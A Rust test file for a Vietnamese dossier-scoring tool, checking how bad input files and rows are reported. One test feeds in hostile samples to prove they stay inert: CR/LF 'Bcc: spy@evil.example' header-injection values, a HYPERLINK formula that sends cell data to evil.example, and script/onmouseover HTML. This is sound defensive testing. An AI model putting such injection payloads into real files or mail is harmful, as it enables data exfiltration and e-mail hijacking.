//! Bad input: a file that cannot be used stops the run with its name and the reason (exit 4,
//! nothing written); bad rows in a usable file become findings. Never a panic.

use std::collections::BTreeMap;

use chrono::TimeZone;
use thidua::config::load_checked as load_config;
use thidua::dataset::Dataset;
use thidua::ingest::{self, Severity};
use thidua::period::Period;
use thidua::pipeline::{self, RunContext};
use thidua::pull::Fetched;
use thidua::pull::{Location, Source};

use crate::common::{files_under, project};

/// Runs the tiny fixture with the drop folder holding only `name` with `bytes`.
fn run_with(name: &str, bytes: &[u8]) -> anyhow::Error {
    let dir = project("tiny");
    let drop = dir.path().join("drop/2024-09");
    std::fs::remove_dir_all(&drop).unwrap();
    std::fs::create_dir_all(&drop).unwrap();
    std::fs::write(drop.join(name), bytes).unwrap();
    let config = load_config(&dir.path().join("config/thidua.toml")).unwrap();
    let p = pipeline::load(&config, "monthly").unwrap();
    let now = config.settings.ward.time_zone.with_ymd_and_hms(2024, 10, 5, 8, 0, 0).unwrap();
    let ctx = RunContext { config: &config, period: Period::new(2024, 9).unwrap(), now, dry_run: false, resend: false };
    let err = pipeline::run(&p, &ctx).expect_err("bad input must fail the run");
    assert_eq!(thidua::outcome::exit_code(&err), std::process::ExitCode::from(4), "{err:#}");
    assert!(!dir.path().join("output").exists(), "no partial output");
    assert!(!dir.path().join("store/tables").exists(), "no table stored");
    assert!(files_under(&dir.path().join("store")).iter().all(|p| p.extension().is_none_or(|e| e != "parquet")));
    err
}

fn assert_names(err: &anyhow::Error, file: &str, reason: &str) {
    let shown = format!("{err:#}");
    assert!(shown.contains(file) && shown.contains(reason), "{shown}");
}

#[test]
fn the_wrong_export_in_the_dossier_folder() {
    // The initiatives register shares "Đơn vị" and "Trạng thái" with dossiers, not the rest.
    let other = std::fs::read(crate::common::repo().join("samples/2024/sang-kien/sang-kien-2024.xlsx")).unwrap();
    let err = run_with("nham-tep.xlsx", &other);
    assert_names(&err, "nham-tep.xlsx", "không nhận ra định dạng tệp");
}

#[test]
fn xlsx_without_a_known_header() {
    let mut wb = rust_xlsxwriter::Workbook::new();
    let ws = wb.add_worksheet();
    for (c, h) in ["Họ tên", "Ghi chú", "Số tiền"].iter().enumerate() {
        ws.write_string(0, c as u16, *h).unwrap();
        ws.write_string(1, c as u16, "x").unwrap();
    }
    let err = run_with("bang-luong.xlsx", &wb.save_to_buffer().unwrap());
    assert_names(&err, "bang-luong.xlsx", "không tìm thấy dòng tiêu đề cột");
}

fn fetched(name: &str, bytes: &[u8]) -> Fetched {
    let source = Source {
        id: "ho-so".into(),
        dataset: Dataset::Dossiers,
        location: Location::File { glob: "x".into() },
        required: true,
        profile: None,
        columns: BTreeMap::new(),
    };
    Fetched::from_bytes(source, name, &format!("drop/{name}"), Period::new(2024, 9).unwrap(), bytes.to_vec())
}

#[test]
fn bad_rows_become_findings_with_file_and_row() {
    let dir = project("tiny");
    let config = load_config(&dir.path().join("config/thidua.toml")).unwrap();
    // Semicolons, JSON-ish junk, a future date, negative counts, an unknown status, a bad channel.
    let csv = "MaHoSo;DonViXuLy;NgayTiepNhan;NgayHenTra;TrangThaiHoSo;SoLanYeuCauBoSung;SoNgayBoSung;KenhThucHien\n\
               HS1;Bộ phận Tư pháp - Hộ tịch;05/09/2024 08:00:00;06/09/2024 17:00:00;Đang xử lý;-1;-3;2\n\
               HS2;Bộ phận Tư pháp - Hộ tịch;05/09/2030 08:00:00;06/09/2030 17:00:00;Đang xử lý;0;0;2\n\
               HS3;Bộ phận Tư pháp - Hộ tịch;05/09/2024 08:00:00;;Hoàn tất?;0;0;9\n\
               HS4;Bộ phận Tư pháp - Hộ tịch;hôm qua;06/09/2024 17:00:00;Đang xử lý;0;0;x\n\
               ;Bộ phận Tư pháp - Hộ tịch;05/09/2024 08:00:00;06/09/2024 17:00:00;Đang xử lý;0;0;1\n";
    let ctx = ingest::Context {
        registry: &config.registry,
        period: Period::new(2024, 9).unwrap(),
        now: chrono::NaiveDate::from_ymd_opt(2024, 10, 5).unwrap().and_hms_opt(8, 0, 0).unwrap(),
        tz: chrono_tz::Asia::Ho_Chi_Minh,
        profiles: &config.formats,
        whole_file: false,
    };
    let got = ingest::ingest(&[fetched("ho-so.csv", csv.as_bytes())], &ctx).unwrap();
    let table = got.table(Dataset::Dossiers).unwrap();
    assert_eq!(
        table.height(),
        1,
        "HS1 kept; HS2 (future), HS3 (a status outside the table), HS4 (bad date) and the row without id rejected"
    );
    let find = |rule: &str| {
        got.findings
            .iter()
            .find(|f| f.rule.starts_with(rule))
            .unwrap_or_else(|| panic!("no finding {rule}: {:#?}", got.findings))
    };
    let future = find("Ngày tiếp nhận ở tương lai");
    assert_eq!((future.severity, future.count, future.examples[0].row), (Severity::Rejected, 1, 3));
    let bad_date = find("Thiếu hoặc sai giá trị bắt buộc ở cột \"NgayTiepNhan\" (received_at)");
    assert_eq!((bad_date.examples[0].row, bad_date.examples[0].detail.as_str()), (5, "hôm qua"));
    assert_eq!(find("Thiếu hoặc sai giá trị bắt buộc ở cột \"MaHoSo\" (dossier_id)").examples[0].row, 6);
    assert_eq!(find("Số lần hoặc số ngày bổ sung âm").examples[0].row, 2);
    let status = find("Trạng thái không có trong bảng mã của định dạng dvcqg-dongbo");
    assert_eq!(
        (status.severity, status.examples[0].row, status.examples[0].detail.as_str()),
        (Severity::Rejected, 4, "Hoàn tất?")
    );
    assert_eq!(find("Giá trị không hợp lệ ở cột \"KenhThucHien\" (channel)").examples[0].row, 4);
    assert!(got.findings.iter().all(|f| f.examples.iter().all(|e| e.file == "ho-so.csv")));
}

/// One case of `tests/fixtures/bad/expectations.toml`.
#[derive(serde::Deserialize)]
#[serde(deny_unknown_fields)]
struct Case {
    file: String,
    why: String,
    expect: String,
    message: Option<String>,
    rows: Option<usize>,
    encoding: Option<String>,
    #[serde(default)]
    units: Vec<String>,
    #[serde(default)]
    findings: Vec<ExpectedFinding>,
}

#[derive(serde::Deserialize)]
#[serde(deny_unknown_fields)]
struct ExpectedFinding {
    rule: String,
    row: u32,
    value: Option<String>,
}

fn ingest_alone(name: &str, bytes: &[u8]) -> anyhow::Result<ingest::Ingested> {
    let dir = project("tiny");
    let config = load_config(&dir.path().join("config/thidua.toml")).unwrap();
    let ctx = ingest::Context {
        registry: &config.registry,
        period: Period::new(2024, 9).unwrap(),
        now: chrono::NaiveDate::from_ymd_opt(2024, 10, 5).unwrap().and_hms_opt(8, 0, 0).unwrap(),
        tz: chrono_tz::Asia::Ho_Chi_Minh,
        profiles: &config.formats,
        whole_file: false,
    };
    ingest::ingest(&[fetched(name, bytes)], &ctx)
}

/// Every file of the bad-input corpus gives the error or the findings its table says.
#[test]
fn the_bad_input_corpus() {
    let folder = crate::common::repo().join("tests/fixtures/bad");
    #[derive(serde::Deserialize)]
    struct Table {
        case: Vec<Case>,
    }
    let table: Table = toml::from_str(&std::fs::read_to_string(folder.join("expectations.toml")).unwrap()).unwrap();
    assert!(table.case.len() >= 18, "{} cases", table.case.len());
    let mut failures = Vec::new();
    for case in &table.case {
        let bytes = std::fs::read(folder.join(&case.file)).unwrap_or_else(|e| panic!("{}: {e}", case.file));
        let why = format!("{} ({})", case.file, case.why);
        match case.expect.as_str() {
            "error" => {
                let err = run_with(&case.file, &bytes);
                let shown = format!("{err:#}");
                let reason = case.message.as_deref().expect("an error case names its message");
                if !(shown.contains(&format!("drop/2024-09/{}", case.file)) && shown.contains(reason)) {
                    failures.push(format!("{why}: expected {reason:?}, got {shown}"));
                }
            }
            "ok" => {
                let got = match ingest_alone(&case.file, &bytes) {
                    Ok(got) => got,
                    Err(e) => {
                        failures.push(format!("{why}: {e:#}"));
                        continue;
                    }
                };
                let rows = got.table(Dataset::Dossiers).map_or(0, polars::prelude::DataFrame::height);
                if Some(rows) != case.rows {
                    failures.push(format!("{why}: {rows} rows kept, expected {:?}", case.rows));
                }
                let encoding = got.files[0].encoding.map(|e| e.label().to_string());
                if encoding != case.encoding {
                    failures.push(format!("{why}: encoding {encoding:?}, expected {:?}", case.encoding));
                }
                if !case.units.is_empty() {
                    let table = got.table(Dataset::Dossiers).unwrap();
                    let units: Vec<String> = table
                        .column("unit_code")
                        .unwrap()
                        .str()
                        .unwrap()
                        .iter()
                        .map(|u| u.unwrap_or("?").to_string())
                        .collect();
                    if units != case.units {
                        failures.push(format!("{why}: units {units:?}, expected {:?}", case.units));
                    }
                }
                for f in &case.findings {
                    let hit = got.findings.iter().any(|g| {
                        g.rule.starts_with(&f.rule)
                            && g.examples.iter().any(|e| {
                                e.file == case.file && e.row == f.row && f.value.as_ref().is_none_or(|v| e.detail == *v)
                            })
                    });
                    if !hit {
                        failures.push(format!(
                            "{why}: no finding {:?} at row {} {:?}; got {:#?}",
                            f.rule, f.row, f.value, got.findings
                        ));
                    }
                }
            }
            other => panic!("{why}: unknown expectation {other:?}"),
        }
    }
    assert!(failures.is_empty(), "{} of {} cases failed:\n{}", failures.len(), table.case.len(), failures.join("\n"));
}

/// The sheets' XML of a workbook: (part name, text).
fn sheet_xml(book: &[u8]) -> Vec<(String, String)> {
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(book)).expect("a workbook opens as a zip");
    let names: Vec<String> = zip.file_names().filter_map(|n| n.ok().map(std::borrow::Cow::into_owned)).collect();
    let mut out = Vec::new();
    for name in names.into_iter().filter(|n| n.starts_with("xl/worksheets/") && n.ends_with(".xml")) {
        let mut text = String::new();
        std::io::Read::read_to_string(&mut zip.by_name(&name).unwrap(), &mut text).unwrap();
        out.push((name, text));
    }
    assert!(!out.is_empty(), "a workbook has sheets");
    out
}

/// Formulas, HTML, a script and CR/LF from an export, and CR/LF in the names the
/// configuration gives to the ward and a unit's head: every workbook cell stays text (no
/// `<f>` element in any sheet), every e-mail body escapes the HTML, and no header gains a
/// line (no Bcc appears, one To per message).
#[test]
fn formulas_html_and_line_breaks_stay_inert() {
    let dir = project("tiny");
    let bad = crate::common::repo().join("tests/fixtures/bad/cong-thuc-va-html.csv");
    std::fs::copy(bad, dir.path().join("drop/2024-09/cong-thuc-va-html.csv")).unwrap();
    let settings = dir.path().join("config/thidua.toml");
    let text = std::fs::read_to_string(&settings).unwrap();
    std::fs::write(
        &settings,
        text.replace("short_name = \"Thử Nghiệm\"", "short_name = \"Thử Nghiệm\\r\\nBcc: spy@evil.example\""),
    )
    .unwrap();
    let units = dir.path().join("config/units.toml");
    let text = std::fs::read_to_string(&units).unwrap();
    std::fs::write(
        &units,
        text.replacen(
            "head_email = \"a@tiny.example\"",
            "head_email = \"a@tiny.example\"\nhead = \"Trưởng A\\r\\nBcc: spy@evil.example\"",
            1,
        ),
    )
    .unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_thidua"))
        .current_dir(dir.path())
        .args(["run", "monthly", "--period", "2024-09"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));

    let mut books = vec![std::fs::read(dir.path().join("output/2024-09/bang-diem-2024-09.xlsx")).unwrap()];
    let outbox = files_under(&dir.path().join("output/outbox"));
    assert_eq!(outbox.len(), 3);
    let mut scripts_escaped = 0;
    for eml in &outbox {
        let raw = std::fs::read_to_string(eml).unwrap();
        let headers = crate::common::mail_headers(&raw);
        assert!(!headers.iter().any(|(k, _)| k.eq_ignore_ascii_case("bcc")), "{eml:?}: {headers:?}");
        assert_eq!(headers.iter().filter(|(k, _)| k.eq_ignore_ascii_case("to")).count(), 1, "{headers:?}");
        assert!(headers.iter().all(|(k, v)| !k.contains(' ') && !v.contains('\r') && !v.contains('\n')));
        for (ctype, body) in crate::common::mime_parts(&raw) {
            let body_text = String::from_utf8_lossy(&body).to_lowercase();
            if ctype.starts_with("text/html") {
                assert!(!body_text.contains("<script") && !body_text.contains("<b onmouseover"), "{eml:?}");
                scripts_escaped += body_text.matches("&lt;script&gt;").count();
            } else if !ctype.starts_with("text/") {
                books.push(body);
            }
        }
    }
    assert!(scripts_escaped > 0, "unit A's card lists the overdue dossier whose procedure is a <script>");
    assert_eq!(books.len(), 1 + 3, "the workbook on disk and one attached to each message");
    for book in &books {
        for (part, xml) in sheet_xml(book) {
            assert!(!xml.contains("<f>") && !xml.contains("<f "), "a formula in {part}");
        }
    }
    let overdue =
        crate::common::Sheet::read(&dir.path().join("output/2024-09/bang-diem-2024-09.xlsx"), "Hồ sơ quá hạn", 3);
    let ids: Vec<String> = overdue.records().iter().map(|r| r["Mã hồ sơ"].to_string()).collect();
    for id in ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào đây\")", "+HS-I2", "-HS-I3"] {
        assert!(ids.iter().any(|i| i == id), "{id} written as text: {ids:?}");
    }
}

/// A workbook whose unit names were typed in the legacy .VnTime (TCVN3) font beside Unicode
/// cells: each cell is judged on its own, re-read, and the units resolve.
#[test]
fn vntime_cells_inside_a_workbook_are_read_back_and_their_units_resolve() {
    // TCVN3 bytes of "Bộ phận Tư pháp - Hộ tịch", as Excel keeps them: Windows-1252 letters.
    let vntime = "B\u{e9} ph\u{cb}n T\u{ad} ph\u{b8}p - H\u{e9} t\u{de}ch";
    let mut wb = rust_xlsxwriter::Workbook::new();
    let ws = wb.add_worksheet();
    ws.write_string(0, 0, "DANH SÁCH HỒ SƠ").unwrap();
    for (c, h) in ["Mã hồ sơ", "Đơn vị xử lý", "Ngày tiếp nhận", "Trạng thái"].iter().enumerate() {
        ws.write_string(2, c as u16, *h).unwrap();
    }
    for (r, (id, unit)) in [("V1", vntime), ("V2", "Bộ phận Địa chính - Xây dựng")].iter().enumerate() {
        let r = r as u32 + 3;
        ws.write_string(r, 0, *id).unwrap();
        ws.write_string(r, 1, *unit).unwrap();
        ws.write_string(r, 2, "05/09/2024 08:00:00").unwrap();
        ws.write_string(r, 3, "Đang xử lý").unwrap();
    }
    let got = ingest_alone("vntime.xlsx", &wb.save_to_buffer().unwrap()).unwrap();
    let table = got.table(Dataset::Dossiers).unwrap();
    let codes: Vec<Option<&str>> = table.column("unit_code").unwrap().str().unwrap().iter().collect();
    assert_eq!(codes, [Some("A"), Some("B")], "{:#?}", got.findings);
    let legacy = got.findings.iter().find(|f| f.rule.starts_with("Ô gõ bằng phông chữ cũ")).unwrap();
    assert_eq!((legacy.count, legacy.examples.len()), (1, 0), "counted, no cell text printed");
}

/// A workbook written by a program: its formulas carry no value Excel computed.
#[test]
fn formulas_without_a_computed_value_are_named_not_read_as_empty_silently() {
    let mut wb = rust_xlsxwriter::Workbook::new();
    let ws = wb.add_worksheet();
    for (c, h) in ["Mã hồ sơ", "Đơn vị xử lý", "Ngày tiếp nhận", "Trạng thái", "Ngày hẹn trả"].iter().enumerate()
    {
        ws.write_string(0, c as u16, *h).unwrap();
    }
    for r in 1..=3u32 {
        ws.write_string(r, 0, format!("F{r}")).unwrap();
        ws.write_string(r, 1, "Bộ phận Tư pháp - Hộ tịch").unwrap();
        ws.write_string(r, 2, "05/09/2024 08:00:00").unwrap();
        ws.write_string(r, 3, "Đang xử lý").unwrap();
        ws.write_formula(r, 4, rust_xlsxwriter::Formula::new("=C2+1").set_result("")).unwrap();
    }
    // rust_xlsxwriter stores a result with each formula; take it out, as other programs write them.
    let book = without_formula_results(&wb.save_to_buffer().unwrap());
    let got = ingest_alone("cong-thuc.xlsx", &book).unwrap();
    let f = got.findings.iter().find(|f| f.rule.starts_with("Ô có công thức nhưng không có giá trị đã tính")).unwrap();
    assert_eq!(f.count, 3);
    assert_eq!((f.examples[0].row, f.examples[0].detail.as_str()), (2, "cột E"));
    assert_eq!(got.table(Dataset::Dossiers).unwrap().height(), 3, "the rows stay, their due date unknown");
}

/// The workbook with the cached value of every formula cell removed (`<f>…</f><v>…</v>` →
/// `<f>…</f>`).
fn without_formula_results(xlsx: &[u8]) -> Vec<u8> {
    use std::io::{Read, Write};
    let mut zin = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).unwrap();
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for i in 0..zin.len() {
        let mut f = zin.by_index(i).unwrap();
        let name = f.name().unwrap().to_string();
        let mut data = Vec::new();
        f.read_to_end(&mut data).unwrap();
        if name.starts_with("xl/worksheets/") {
            let mut text = String::from_utf8(data).unwrap();
            while let Some(at) = text.find("</f><v>") {
                let end = text[at..].find("</v>").unwrap() + at + 4;
                text.replace_range(at + 4..end, "");
            }
            data = text.into_bytes();
        }
        out.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
        out.write_all(&data).unwrap();
    }
    out.finish().unwrap().into_inner()
}
